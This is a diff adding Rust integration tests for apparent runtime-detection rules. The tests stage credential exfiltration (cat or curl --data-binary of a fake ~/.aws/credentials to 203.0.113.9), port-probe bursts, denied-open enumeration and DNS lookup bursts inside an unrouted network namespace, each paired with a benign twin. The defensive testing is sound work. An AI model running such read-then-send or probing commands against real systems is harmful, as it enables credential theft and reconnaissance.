@@ -84,6 +84,13 @@ const INTERACTIVE: &str = "Interactive Shell Without Terminal in Container";
 const LISTENER: &str = "Netcat or Socat Listener in Container";
 const SHELL_PUBLIC: &str = "Shell Connected to Public Address";
 const TUNNEL: &str = "Tunnel or Proxy Tool Launched";
+const READ_THEN_SEND: &str = "Sensitive File Read Then Outbound Connection";
+const READ_THEN_SEND_SHELL: &str = "Sensitive File Read Then Outbound Connection from Shell";
+const FAILED_BURST: &str = "Connection Probe Burst in Container";
+const DENIED_BURST: &str = "Permission Denied Burst in Container";
+const DNS_BURST: &str = "DNS Lookup Burst";
+/// A documentation address (RFC 5737); only ever dialled inside `unshare -n`.
+const PUBLIC_IP: &str = "203.0.113.9";
 
 const SA_DIR: &str = "/var/run/secrets/kubernetes.io/serviceaccount";
 const IMDS: Ipv4Addr = Ipv4Addr::new(169, 254, 169, 254);
@@ -1422,6 +1429,146 @@ fn assert_scan_alerts(alerts: &[Value], scan: &ScanResult) {
     }
 }
 
+// ------------------------------------------------- other stateful rules
+
+/// `unshare -n sh -c SCRIPT ARGS...` (a shell whose connects cannot leave:
+/// the namespace has no route); its pid.
+fn shell_in_empty_netns(script: &str, args: &[&str]) -> u32 {
+    let mut c = Command::new("unshare");
+    c.args(["-n", "sh", "-c", script, "sh"]).args(args);
+    let (pid, _) = run_bounded(c);
+    pid
+}
+
+/// The read-then-send sequences, the failed-connect and denied-open bursts
+/// of a container, and the DNS lookup burst: each real, each with a twin.
+fn stateful_rules(cx: &mut Ctx, ctr: &FakeContainer) {
+    let home = cx.dir.join("victim");
+    std::fs::create_dir_all(home.join(".aws")).unwrap();
+    let cred = home.join(".aws/credentials");
+    std::fs::write(&cred, "[default]\naws_secret_access_key=fake\n").unwrap();
+    let notes = home.join("notes.txt");
+    std::fs::write(&notes, "nothing secret").unwrap();
+    let (cred_s, notes_s) = (cred.display().to_string(), notes.display().to_string());
+    let url = format!("http://{PUBLIC_IP}:443/");
+
+    // A shell pipeline: cat reads the credentials, then curl (a sibling)
+    // tries an outside address (ENETUNREACH: no packet leaves).
+    let send = "cat \"$1\" > /dev/null; curl -s -m 2 \"$2\"; true";
+    let sh = shell_in_empty_netns(send, &[&cred_s, &url]);
+    let a = cx.expect_one(
+        "cat credentials then curl out, one shell",
+        READ_THEN_SEND_SHELL,
+        move |a| text(a, "proc.ppid") == sh.to_string(),
+    );
+    assert_eq!(field(&a, "seq.read.fd.name"), cred_s, "{a:#}");
+    assert_eq!(field(&a, "fd.rip"), PUBLIC_IP, "{a:#}");
+    assert_eq!(field(&a, "evt.res"), "ENETUNREACH", "{a:#}");
+    assert_eq!(field(&a, "seq.read.proc.cmdline"), format!("cat {cred_s}"));
+    assert_eq!(a["priority"], "Critical");
+    // Twins: an ordinary file then the same send; the credentials then a
+    // loopback (internal) destination.
+    let sh_benign = shell_in_empty_netns(send, &[&notes_s, &url]);
+    let sh_local = shell_in_empty_netns(send, &[&cred_s, "http://127.0.0.1:9/"]);
+    cx.twin("cat an ordinary file then curl out", move |a| {
+        a["rule"] == READ_THEN_SEND_SHELL && text(a, "proc.ppid") == sh_benign.to_string()
+    });
+    cx.twin("cat credentials then a loopback connect", move |a| {
+        a["rule"] == READ_THEN_SEND_SHELL && text(a, "proc.ppid") == sh_local.to_string()
+    });
+
+    // One process reads and sends: curl --data-binary @credentials.
+    let curl = |file: &str| {
+        let mut c = Command::new("unshare");
+        c.args(["-n", "curl", "-s", "-m", "2", "--data-binary"])
+            .arg(format!("@{file}"))
+            .arg(&url);
+        run_bounded(c).0
+    };
+    let pid = curl(&cred_s);
+    let a = cx.expect_one("curl posting credentials out", READ_THEN_SEND, move |a| {
+        text(a, "proc.pid") == pid.to_string()
+    });
+    assert_eq!(field(&a, "seq.read.fd.name"), cred_s, "{a:#}");
+    assert_eq!(text(&a, "fd.rport"), "443", "{a:#}");
+    let pid_benign = curl(&notes_s);
+    cx.twin("curl posting an ordinary file out", move |a| {
+        a["rule"] == READ_THEN_SEND && text(a, "proc.pid") == pid_benign.to_string()
+    });
+
+    // Blind probing from a container: 22 short-lived curls, each refused.
+    let net = TestNet::create(2);
+    let target = net.peers[0].to_string();
+    let probe = "for p in $(seq 2000 2021); do curl -s -m 1 \"http://$0:$p/\"; done; true";
+    let run = ctr.spawn("sh", &["-c", probe, &target]);
+    let cid = ctr.short_id().to_string();
+    let a = cx.expect_one("22 refused probes from a container", FAILED_BURST, {
+        let cid = cid.clone();
+        move |a| field(a, "container.id") == cid
+    });
+    cx.keep.push(run);
+    assert_eq!(text(&a, "threshold.count"), "20", "{a:#}");
+    // curl connects without blocking: the attempt is in progress when the
+    // syscall returns, refused later.
+    assert_eq!(field(&a, "evt.res"), "EINPROGRESS", "{a:#}");
+    // The same probes from the host: not a container, no alert.
+    let mut c = Command::new("sh");
+    c.args(["-c", probe, &target]);
+    run_ok(c);
+    cx.twin("refused probes from the host", move |a| {
+        a["rule"] == FAILED_BURST && field(a, "container.id") != cid
+    });
+
+    // Enumeration as an unprivileged user: 35 opens refused with EACCES.
+    let locked = cx.dir.join("locked");
+    std::fs::create_dir_all(&locked).unwrap();
+    std::fs::set_permissions(&locked, std::os::unix::fs::PermissionsExt::from_mode(0o700)).unwrap();
+    let enumerate = "for i in $(seq 1 35); do cat \"$0/f-$i\" 2>/dev/null; done; true";
+    let locked_s = locked.display().to_string();
+    let as_nobody = [
+        "--reuid=65534",
+        "--regid=65534",
+        "--clear-groups",
+        "sh",
+        "-c",
+    ];
+    let mut args = as_nobody.to_vec();
+    args.extend([enumerate, &locked_s]);
+    let run = ctr.spawn("setpriv", &args);
+    let cid = ctr.short_id().to_string();
+    let a = cx.expect_one("35 denied opens in a container", DENIED_BURST, {
+        let (cid, locked_s) = (cid.clone(), locked_s.clone());
+        move |a| field(a, "container.id") == cid && field(a, "fd.name").starts_with(&locked_s)
+    });
+    cx.keep.push(run);
+    assert_eq!(text(&a, "threshold.count"), "30", "{a:#}");
+    let mut c = Command::new("setpriv");
+    c.args(&args);
+    run_ok(c);
+    cx.twin("denied opens on the host", move |a| {
+        a["rule"] == DENIED_BURST && field(a, "container.id") != cid
+    });
+
+    // DNS enumeration: one shell runs `dig` for 12 names.
+    let dig = tool(&cx.dir, "dig", "/bin/true");
+    let dig_s = dig.display().to_string();
+    let many = "for i in $(seq 1 12); do \"$0\" +short \"svc-$i.prod.svc.cluster.local\"; done";
+    let mut c = Command::new("sh");
+    c.args(["-c", many, &dig_s]);
+    let (sh, _) = run_ok(c);
+    let a = cx.expect_one("dig for 12 names from one shell", DNS_BURST, move |a| {
+        text(a, "proc.ppid") == sh.to_string()
+    });
+    assert_eq!(text(&a, "threshold.count"), "10", "{a:#}");
+    let same = "for i in $(seq 1 12); do \"$0\" +short example.com; done";
+    let mut c = Command::new("sh");
+    c.args(["-c", same, &dig_s]);
+    let (sh_same, _) = run_ok(c);
+    cx.twin("dig of one name 12 times", move |a| {
+        a["rule"] == DNS_BURST && text(a, "proc.ppid") == sh_same.to_string()
+    });
+}
+
 // ------------------------------------------------------------------ tests
 
 /// Run the renamed `nmap` with a marker and wait for its alert: every event
@@ -1461,6 +1608,7 @@ fn shipped_rules_fire_on_real_behaviour_and_not_on_benign_twins() {
     remote_shell(&mut cx, &ctr);
     more_rules(&mut cx, &ctr);
     let scan = scans(&mut cx);
+    stateful_rules(&mut cx, &ctr);
 
     sentinel(&cx.dir, &mut cx.alerts);
     let all = &cx.alerts.0.items;
